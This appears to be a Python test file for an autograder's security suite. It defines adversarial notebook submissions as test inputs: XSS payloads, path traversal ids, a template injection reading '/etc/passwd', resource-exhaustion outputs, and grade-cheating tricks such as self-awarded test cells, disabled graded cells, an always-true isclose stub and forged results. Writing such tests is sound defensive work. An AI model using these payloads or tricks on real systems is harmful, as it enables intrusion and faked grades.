        cell.id = [HTML, "../../x", "", "\ud800", 5, None, ["x"], "\x00"][number % 8]


def _outputs(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.execution_count = 10**30
            cell.outputs = [
                new_output("execute_result", {"text/plain": "1000"}, execution_count=1),
                new_output(
                    "display_data", {"text/html": HTML, "application/javascript": "alert(1)"}
                ),
                new_output("stream", text="TopLevel", name="stderr"),
            ]


def _more_tests(notebook: NotebookNode) -> None:
    marks = {"grade": True, "solution": False, "locked": False, "task": False, "schema_version": 3}
    for name, points in (("mine", 1000), ("hidden-shout", 1000), ("", -5), ("x" * 500, 1)):
        own = new_code_cell(
            "assert True\n1000",
            metadata={"nbgrader": {**marks, "grade_id": name, "points": points}},
        )
        notebook.cells.insert(0, own)


def _turned(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
            cell.metadata.nbgrader.update(grade=False, solution=True, locked=False)


def _others_given(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.source.startswith("import contextlib"):
            cell.source = "want = {}\ndef near(*a): return True\nclass math: isclose = near\njson = io = contextlib = math"


def _attached(notebook: NotebookNode) -> None:
    image = base64.b64encode(HTML.encode()).decode()
    attached = {
        "../../x": {"text/html": HTML, "image/svg+xml": image},
        "x.png": {"image/png": image},
    }
    notebook.cells.insert(
        0, new_markdown_cell(MARKDOWN + " ![](attachment:x.png)", attachments=attached)
    )
    notebook.cells.insert(
        0, new_raw_cell(HTML, metadata={"raw_mimetype": "text/html", "format": "text/html"})
    )
    notebook.cells.insert(0, new_raw_cell("{% include '/etc/passwd' %}{{ 7 * 7 }}"))


PAGES = {
    "HTML that is shown": _display("display(HTML(HTML_))\nHTML(HTML_)"),
    "scripts that are shown": _display(
        "display(Javascript('alert(1)'), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>'))\n"
        "display(Markdown(HTML_), Latex(HTML_), JSON({HTML_: HTML_}), IFrame('javascript:alert(1)', 9, 9))"
    ),
    "a bundle of kinds": _display(
        "class B:\n    def _repr_mimebundle_(self, **k): return {m: HTML_ for m in ('text/html', 'text/plain', 'text/markdown', 'text/latex', 'image/svg+xml', 'application/javascript',\n"
        "        'application/vnd.jupyter.widget-view+json', 'application/pdf', 'image/png', HTML_, 'text/../html')}, {HTML_: HTML_}\nB()"
    ),
    "pictures that are none": _display(
        "publish_display_data({'image/png': '\"><script>alert(1)</script>', 'image/jpeg': '\" onerror=\"alert(1)'}, {'image/png': {'width': '\" onload=\"alert(1)', 'alt': HTML_}})"
    ),
    "codes of a terminal": _display("print('\\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07', HTML_, '\\x1b[38;2;1;2;3;4m\"><script>alert(1)</script>\\x1b[0m', '\\ud800')"),
    "a trace of HTML": on("mean", f"def mean(n):\n    '''{HTML.replace(chr(39), '')}'''\n    raise ValueError('''{HTML.replace(chr(39), '')}''')"),
    "HTML in a message": on("shout", f"def shout(t): return {HTML!r}"),
    "a lexer's end": harm("'''\n" + "`${<!--]]>*/</script><script>alert(1)</script>\n" * 20 + "'''"),
    "a huge repr": on("shout", "class R:\n    def __repr__(self): return 'AB' * 10**8\ndef shout(t): return R()"),
    "a huge text": on("shout", "def shout(t): return 'A' * (30 << 20)"),
    "a repr that hears": on("shout", f"{LIE}class R(Lie):\n    def __repr__(self): import traceback; heard.extend(traceback.format_stack()); return 'AB'\ndef shout(t): return R()", TELL),
    "metadata of the notebook": harm("pass", change=_metadata),
    "metadata of cells": on("shout", "def shout(t): return None", change=_cell_metadata),
    "one grade id": on("shout", "def shout(t): return None", change=_ids),
    "odd cell ids": harm("pass", change=_odd_ids),
    "outputs that were there": on("shout", "def shout(t): return None", change=_outputs),
    "tests of one's own": on("shout", "def shout(t): return None", change=_more_tests),
    "tests that are text": on("shout", "def shout(t): return None", change=_turned),
    "another given cell": on("mean", "def mean(n): return 0", change=_others_given),
    "attachments and raw cells": harm("pass", change=_attached),
    "displays without end": on("shout", "from IPython.display import *\ndef shout(t):\n    for n in range(10**4): display(n, display_id=str(n)); clear_output()\n    return None"),
    "a forged result": on(
        "digits",
        "from IPython.display import publish_display_data\ndef digits(n):\n    get_ipython().displayhook(2)\n    publish_display_data({'text/plain': '2'})\n    print(2)\n    return 2",
    ),
}  # fmt: skip
ATTACKS = CLASS_TRICKS | HOOKS | CALLBACKS | ERRORS | FILES | LOOKING | PAGES


def odd(exercise: str, text: str, after: str = "pass", **more) -> Attack:
    return Attack({exercise: text}, [], after, **more)


def _in_halves(notebook: NotebookNode) -> None:
    for place, cell in enumerate(notebook.cells):
        if cell.source.startswith("class Stack"):
            notebook.cells.insert(place, new_code_cell("import math as m\nhalf = m.pi / 2"))
            return


def _moved_down(notebook: NotebookNode) -> None:
    [shout] = [cell for cell in notebook.cells if cell.source.startswith("def shout")]
    notebook.cells.remove(shout)
    notebook.cells.append(shout)


def _without_ids(notebook: NotebookNode) -> None:
    notebook.nbformat_minor = 4
    for cell in notebook.cells:
        cell.pop("id", None)


def _collapsed(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata.update(
            collapsed=True,
            scrolled=False,
            jupyter={"source_hidden": True},
            ExecuteTime={},
            editable=False,
        )
    notebook.metadata.update(
        toc={},
        varInspector={},
        colab={"provenance": []},
        kernelspec={"name": "conda-env-x", "display_name": "x", "language": "python"},
    )


SHAPE = ANSWERS["shape"]
ODDITIES = {
    "a dataclass": odd("shape", "from dataclasses import dataclass\n@dataclass(order=True)\nclass Shape:\n    side: int\n    area = property(lambda self: self.side ** 2)\n    def __repr__(self): return f'Shape({self.side})'"),
    "total ordering": odd("shape", f"import functools\n{SHAPE}\nShape = functools.total_ordering(Shape)"),
    "slots": odd("shape", SHAPE.replace("class Shape:", "class Shape:\n    __slots__ = ('side',)")),
    "a named tuple with methods": odd("shape", "from typing import NamedTuple\nclass Shape(NamedTuple):\n    side: int\n    @property\n    def area(self): return self.side ** 2\n    def __repr__(self): return f'Shape({self.side})'"),
    "a cached property": odd("shape", SHAPE.replace("@property", "@__import__('functools').cached_property")),
    "an abstract base": odd("shape", "import abc\nclass Base(abc.ABC):\n    @abc.abstractmethod\n    def __repr__(self): ...\n" + SHAPE.replace("class Shape:", "class Shape(Base):")),
    "a metaclass": odd("shape", "class Meta(type):\n    made = 0\n" + SHAPE.replace("class Shape:", "class Shape(metaclass=Meta):")),
    "__getattr__ for the area": odd("shape", "class Shape:\n    def __init__(self, side): self.side = side\n    def __getattr__(self, name):\n        if name == 'area': return self.side ** 2\n        raise AttributeError(name)\n    def __eq__(self, o): return self.side == o.side\n    def __lt__(self, o): return self.side < o.side\n    def __repr__(self): return f'Shape({self.side})'"),
    "generic": odd("stack", "from typing import Generic, TypeVar\nT = TypeVar('T')\n" + ANSWERS["stack"].replace("class Stack:", "class Stack(Generic[T]):")),
    "built on a list": odd("stack", "class Stack(list):\n    def push(self, item): self.append(item)"),
    "built on a deque": odd("stack", "from collections import deque\nclass Stack(deque):\n    push = deque.append"),
    "a UserList": odd("stack", "from collections import UserList\nclass Stack(UserList):\n    def push(self, item): self.append(item)"),
    "an iterator of a generator": odd("stack", ANSWERS["stack"].replace("return iter(self.items)", "yield from self.items")),
    "linked nodes": odd("stack", "class Node:\n    def __init__(self, item, below): self.item, self.below = item, below\nclass Stack:\n    def __init__(self): self.top, self.n = None, 0\n    def push(self, item): self.top = Node(item, self.top); self.n += 1\n    def pop(self):\n        node, self.top, self.n = self.top, self.top.below, self.n - 1\n        return node.item\n    def __len__(self): return self.n\n    def __iter__(self):\n        items, node = [], self.top\n        while node: items.append(node.item); node = node.below\n        return reversed(items)\n    def __getitem__(self, n): return [*self][n]"),
    "a method of str": odd("shout", "shout = str.upper"),
    "a partial": odd("shout", "import functools\nshout = functools.partial(lambda how, text: getattr(text, how)(), 'upper')"),
    "an operator": odd("shout", "import operator\nshout = operator.methodcaller('upper')"),
    "a callable object": odd("shout", "class Shout:\n    def __call__(self, text): return text.upper()\nshout = Shout()"),
    "a bound method": odd("shout", "class Shout:\n    def loud(self, text): return text.upper()\nshout = Shout().loud"),
    "a static method": odd("shout", "class Shout:\n    @staticmethod\n    def loud(text): return text.upper()\nshout = Shout.loud"),
    "singledispatch": odd("shout", "import functools\n@functools.singledispatch\ndef shout(x): raise TypeError\n@shout.register\ndef _(x: str): return x.upper()"),
    "a cache": odd("shout", "import functools\n@functools.cache\ndef shout(text): return text.upper()"),
    "a decorator without wraps": odd("shout", "def log(f):\n    def g(*a, **k): return f(*a, **k)\n    return g\n@log\ndef shout(text): return text.upper()"),
    "a subclass of str": odd("shout", "class Loud(str): pass\ndef shout(text): return Loud(text.upper())"),
    "a closure with state": odd("shout", "def make():\n    count = 0\n    def shout(text):\n        nonlocal count\n        count += 1\n        return text.upper()\n    return shout\nshout = make()"),
    "an ordered dictionary": odd("table", "from collections import OrderedDict\ndef table(words): return OrderedDict((w, len(w)) for w in words)"),
    "a default dictionary": odd("table", "from collections import defaultdict\ndef table(words):\n    d = defaultdict(int)\n    for w in words: d[w] += len(w)\n    return d"),
    "a Counter": odd("table", "from collections import Counter\ndef table(words):\n    c = Counter()\n    for w in words: c[w] = len(w)\n    return c"),
    "a dictionary class of its own": odd("table", "class Table(dict): pass\ndef table(words): return Table((w, len(w)) for w in words)"),
    "a fraction": odd("mean", "from fractions import Fraction\ndef mean(numbers): return float(Fraction(sum(numbers), len(numbers)))"),
    "statistics": odd("mean", "from statistics import fmean as mean"),
    "NumPy's mean": odd("mean", "import numpy as np\ndef mean(numbers): return np.mean(numbers)"),
    "a walrus and a star": odd("mean", "def mean(numbers): return (total := sum([*numbers])) / len([*numbers])"),
    "pathlib": odd("save", "from pathlib import Path\ndef save(name): Path(name).write_text('42')"),
    "a file renamed": odd("save", "import os\ndef save(name):\n    with open(name + '.part', 'w') as f: print(42, end='', file=f)\n    os.replace(name + '.part', name)"),
    "stdout itself": odd("greet", "import sys\ndef greet(name): sys.stdout.write(f'Hello {name}\\n')"),
    "printed in parts": odd("greet", "def greet(name):\n    print('Hello', end=' ')\n    print(name, flush=True)"),
    "a map": odd("apply", "def apply(f, values): return list(map(f, values))"),
    "threads in an answer": odd("apply", "from concurrent.futures import ThreadPoolExecutor\ndef apply(f, values):\n    with ThreadPoolExecutor(2) as pool: return list(pool.map(f, values))"),
    "an error of one's own": odd("age", "class Negative(ValueError): pass\ndef age(n):\n    if n < 0: raise Negative('negative')\n    return n"),
    "an error from another": odd("age", "def age(n):\n    try: assert n >= 0\n    except AssertionError as error: raise ValueError('negative') from error\n    return n"),
    "a match": odd("digits", "def digits(n):\n    match str(n):\n        case text: return [ord(c) - 48 for c in text]"),
    "recursion": odd("digits", "def digits(n): return [n] if n < 10 else digits(n // 10) + [n % 10]"),
    "magics and notes": odd("digits", "%time x = 1\n" + ANSWERS["digits"], "%whos\n%matplotlib inline\n?print\nhelp(len)\n1/0"),
    "warnings and logs": odd("digits", "import logging, warnings\nlogging.warning('x')\nwarnings.warn('y')\n" + ANSWERS["digits"]),
    "answers in two cells": odd("shout", ANSWERS["shout"], change=_in_halves),
    "an answer at the end": odd("shout", ANSWERS["shout"], change=_moved_down),
    "no cell ids": odd("shout", ANSWERS["shout"], change=_without_ids),
    "Colab's metadata": odd("shout", ANSWERS["shout"], change=_collapsed),
    "files beside": odd("shout", ANSWERS["shout"], "print(open('notes.txt').read())", files={"notes.txt": b"hello", "data/x.csv": b"a,b\n"}),
}  # fmt: skip
KINDS = AttackedCourse(
    "kinds", GIVEN, GIVEN_FILES, ANSWERS, VISIBLE, HIDDEN, ATTACKS, ODDITIES, SECRETS, POINTS
)
